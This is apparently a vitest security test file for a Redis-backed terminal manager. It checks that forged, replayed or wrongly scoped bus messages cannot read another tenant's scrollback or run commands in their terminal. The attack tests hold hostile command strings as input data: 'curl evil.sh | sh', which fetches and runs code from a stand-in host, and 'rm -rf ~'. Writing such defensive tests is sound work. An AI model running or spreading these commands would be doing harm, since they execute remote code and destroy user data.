import { randomBytes } from 'node:crypto';
import { Redis } from 'ioredis';
import { afterAll, describe, expect, it } from 'vitest';
import { createRedisBus } from '@/server/events/bus';
import { createMessageSigner } from '@/server/events/signing';
import { getOwnedProject } from '@/server/projects/owned-project';
import { createTestDatabase } from '@/test/database';
import { echoSandbox, outputText, takeOutput } from '@/test/echo-sandbox';
import { deleteRedisKeys, redisReachable, TEST_REDIS_URL } from '@/test/redis';
import { createTestOwner } from '@/test/users';
import { createTerminalCluster } from './cluster';
import { TerminalManager } from './manager';

const redisUp = await redisReachable();
const p1 = { projectId: 'p1', userId: 'u1' };
const p2 = { projectId: 'p2', userId: 'u1' };

describe.skipIf(!redisUp)(`terminals across instances (Redis)${redisUp ? '' : ': skipped, no Redis at 127.0.0.1:6379'}`, () => {
  const prefix = `aura-test-${randomBytes(4).toString('hex')}`;
  // The instances' shared server secret (AUTH_SECRET in production).
  const key = randomBytes(32);
  const closers: (() => Promise<void>)[] = [];
  afterAll(async () => {
    await Promise.all(closers.map((close) => close()));
    await deleteRedisKeys(prefix);
  });
  /** One instance's manager, on the shared Redis bus and directory. */
  const instance = (authorize: (scope: { projectId: string; userId: string }) => Promise<boolean> = async () => true) => {
    const signer = createMessageSigner(key);
    const bus = createRedisBus(TEST_REDIS_URL, `${prefix}:bus:`, signer);
    const cluster = createTerminalCluster({ bus, redisUrl: TEST_REDIS_URL, keyPrefix: prefix, signer });
    closers.push(() => cluster.close(), () => bus.close());
    return { manager: new TerminalManager(cluster, { authorize }), cluster };
  };

  it("streams, writes to, resizes, lists and kills another instance's terminal, resuming by offset", async () => {
    const a = instance();
    const b = instance();
    const { sandbox } = echoSandbox();
    const terminal = await a.manager.create({ ...p1, sandbox, cols: 80, rows: 24 });
    await b.manager.input(p1, terminal.id, 'before-');

    const first = b.manager.output(p1, terminal.id, 0);
    const pending = takeOutput(first, 'before-live'.length);
    await new Promise((resolve) => setTimeout(resolve, 100));
    await a.manager.input(p1, terminal.id, 'live');
    const seen = await pending;
    expect(outputText(seen)).toBe('before-live');

    await b.manager.input(p1, terminal.id, '-missed');
    const resumed = await takeOutput(b.manager.output(p1, terminal.id, 'before-'.length), 'live-missed'.length);
    expect(outputText(resumed)).toBe('live-missed');
    expect(resumed.at(-1)!.offset).toBe('before-live-missed'.length);

    // The agent's context on B includes the output of A's terminal.
    expect(await b.manager.recentOutput(p1, 100)).toEqual([{ title: 'Terminal 1', text: 'before-live-missed' }]);

    await b.manager.resize(p1, terminal.id, { cols: 120, rows: 40 });
    expect(await a.manager.list(p1)).toEqual([expect.objectContaining({ id: terminal.id, cols: 120, rows: 40 })]);
    expect(await b.manager.list(p1)).toEqual([expect.objectContaining({ id: terminal.id, cols: 120, rows: 40, title: 'Terminal 1' })]);
    // Numbering and the per-project limit count every instance's terminals.
    expect((await b.manager.create({ ...p1, sandbox, cols: 80, rows: 24 })).title).toBe('Terminal 2');

    const following = (async () => outputText(await takeOutput(b.manager.output(p1, terminal.id, 'before-live-missed'.length), Infinity)))();
    await new Promise((resolve) => setTimeout(resolve, 100));
    await b.manager.kill(p1, terminal.id);
    expect(await following).toBe('');
    expect((await a.manager.list(p1)).map((info) => info.title)).toEqual(['Terminal 2']);
    await expect(b.manager.input(p1, terminal.id, 'x')).rejects.toMatchObject({ code: 'NOT_FOUND' });
    await expect(b.manager.output(p1, terminal.id, 0).next()).rejects.toMatchObject({ code: 'NOT_FOUND' });
  });

  it('forgets the terminals of an instance that died', async () => {
    const a = instance();
    const b = instance();
    const terminal = await a.manager.create({ ...p2, sandbox: echoSandbox().sandbox, cols: 80, rows: 24 });
    expect(await b.manager.list(p2)).toHaveLength(1);
    // A dies: its heartbeat stops and its liveness key expires.
    await a.cluster.close();
    const redis = new Redis(TEST_REDIS_URL);
    await redis.del(`${prefix}:terminals:alive:${a.cluster.instanceId}`);
    redis.disconnect();
    expect(await b.manager.list(p2)).toEqual([]);
    await expect(b.manager.input(p2, terminal.id, 'x')).rejects.toMatchObject({ code: 'NOT_FOUND' });
  });
  describe('a tenant who reaches Redis', () => {
    /** V's terminal on instance A, B a second instance; ownership is checked against a real database. */
    const setup = async () => {
      const { db } = await createTestDatabase();
      const victim = await createTestOwner(db);
      const mallory = await createTestOwner(db);
      const authorize = (scope: { projectId: string; userId: string }) => getOwnedProject({ db, ...scope }).then(() => true, () => false);
      const a = instance(authorize);
      const b = instance(authorize);
      const v = { projectId: victim.projectId, userId: victim.user.id };
      const terminal = await a.manager.create({ ...v, sandbox: echoSandbox().sandbox, cols: 80, rows: 24 });
      await a.manager.input(v, terminal.id, 'export TOKEN=hunter2\n');
      const scrollback = async () => (await a.manager.recentOutput(v, 10_000))[0]!.text;
      return { a, b, v, mallory, terminal, scrollback };
    };
    /** What `redis-cli` does: a raw PUBLISH, listening on the reply channel it named. */
    const rawPublish = async (channel: string, message: string, replyChannel: string) => {
      const listener = new Redis(TEST_REDIS_URL);
      const publisher = new Redis(TEST_REDIS_URL);
      const replies: string[] = [];
      listener.on('message', (_channel: string, text: string) => replies.push(text));
      await listener.subscribe(`${prefix}:bus:${replyChannel}`);
      const receivers = await publisher.publish(`${prefix}:bus:${channel}`, message);
      await new Promise((resolve) => setTimeout(resolve, 500));
      listener.disconnect();
      publisher.disconnect();
      return { receivers, replies };
    };

    it('gets no scrollback and runs nothing with a forged replay or input message', async () => {
      const { a, v, terminal, scrollback } = await setup();
      const channel = `terminals:instance:${a.cluster.instanceId}`;
      const replay = await rawPublish(channel, JSON.stringify({ reply: 'terminals:reply:evil', request: { op: 'replay', ...v, id: terminal.id, since: 0 } }), 'terminals:reply:evil');
      expect(replay.receivers).toBeGreaterThan(0); // the owner heard it…
      expect(replay.replies).toEqual([]); // …and answered nothing.
      const forgedMac = JSON.stringify({ t: Date.now(), n: 'x', m: '0'.repeat(64), e: { reply: 'terminals:reply:evil', request: { op: 'input', ...v, id: terminal.id, data: 'curl evil.sh | sh\n' } } });
      for (const message of [JSON.stringify({ reply: 'terminals:reply:evil', request: { op: 'input', ...v, id: terminal.id, data: 'curl evil.sh | sh\n' } }), forgedMac, 'not json']) {
        expect((await rawPublish(channel, message, 'terminals:reply:evil')).replies).toEqual([]);
      }
      expect(await scrollback()).toBe('export TOKEN=hunter2\n');
    });

    it("refuses a correctly signed request naming another user's terminal", async () => {
      const { b, v, mallory, terminal, scrollback } = await setup();
      const asMallory = { projectId: v.projectId, userId: mallory.user.id };
      // B forwards whatever scope it is given (as a buggy or confused instance would); A checks it.
      await expect(b.manager.input(asMallory, terminal.id, 'rm -rf ~\n')).rejects.toMatchObject({ code: 'NOT_FOUND' });
      await expect(b.manager.output(asMallory, terminal.id, 0).next()).rejects.toMatchObject({ code: 'NOT_FOUND' });
      await expect(b.manager.kill(asMallory, terminal.id)).rejects.toMatchObject({ code: 'NOT_FOUND' });
      expect(await b.manager.recentOutput(asMallory, 1_000)).toEqual([]);
      // Mallory's own project id does not help either: the terminal is not in it.
      await expect(b.manager.input({ projectId: mallory.projectId, userId: mallory.user.id }, terminal.id, 'x')).rejects.toMatchObject({ code: 'NOT_FOUND' });
      expect(await scrollback()).toBe('export TOKEN=hunter2\n');
      // The owner, through B, still works.
      await b.manager.input(v, terminal.id, 'ls\n');
      expect(await scrollback()).toBe('export TOKEN=hunter2\nls\n');
    });

    it('does not run a captured signed request twice (replay)', async () => {
      const { a, b, v, terminal, scrollback } = await setup();
      const channel = `${prefix}:bus:terminals:instance:${a.cluster.instanceId}`;
      const spy = new Redis(TEST_REDIS_URL);
      const captured: string[] = [];
      spy.on('message', (_channel: string, text: string) => captured.push(text));
      await spy.subscribe(channel);
      await b.manager.input(v, terminal.id, 'once\n');
      spy.disconnect();
      expect(captured).toHaveLength(1);
      const again = await rawPublish(channel.slice(`${prefix}:bus:`.length), captured[0]!, 'unused');
      expect(again.receivers).toBeGreaterThan(0);
      await new Promise((resolve) => setTimeout(resolve, 200));
      expect(await scrollback()).toBe('export TOKEN=hunter2\nonce\n');
    });

    it('ignores terminal directory entries written straight into Redis', async () => {
      const { b, v, terminal } = await setup();
      const redis = new Redis(TEST_REDIS_URL);
      const info = { id: 'fake', projectId: v.projectId, title: 'Terminal 9', cols: 80, rows: 24, cwd: '', createdAt: new Date(), exitCode: null };
      await redis.hset(`${prefix}:terminals:${v.projectId}`, 'fake', JSON.stringify({ owner: 'attacker', info }));
      redis.disconnect();
      expect((await b.manager.list(v)).map((entry) => entry.id)).toEqual([terminal.id]);
    });
  });
});
